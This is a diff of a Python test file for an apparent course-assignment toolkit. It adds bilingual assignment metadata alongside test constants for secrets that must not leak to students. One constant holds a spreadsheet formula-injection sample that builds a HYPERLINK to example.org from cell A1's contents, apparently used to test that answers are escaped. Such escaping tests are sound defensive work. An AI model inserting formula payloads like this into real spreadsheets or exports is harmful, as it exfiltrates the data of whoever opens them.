@@ -6,12 +6,23 @@ from pathlib import Path
 
 from hostile import HOSTILE
 
+from labkit.assignments.companion import Companion, PublicQuestion
+from labkit.assignments.header import Title
 from labkit.assignments.results import CheckResult, Late, QuestionResult, Result
 
 #: What must never be on a page for a student: a reference value, a line of a hidden check, what only a lecturer sees.
 REFERENCE = "14085.25"
 HIDDEN_LINE = "assert abs(residents - reference.residents) < 5"
 SECRETS = (REFERENCE, HIDDEN_LINE, "reference.residents", "AssertionError")
+
+#: What a release tells about the assignment.
+COMPANION = Companion(
+    assignment="week1",
+    title=Title(nl="De stad als lab", en="The city as a lab"),
+    city="leiden",
+    variants="district",
+    questions=(PublicQuestion(id="q1", title=Title(nl="Hoeveel mensen wonen er?", en="How many people live there?")),),
+)
 
 #: Answers that a spreadsheet would run as a formula, or a browser as a script.
 FORMULA = '=HYPERLINK("https://example.org/"&A1;"Click")\n- a second line'
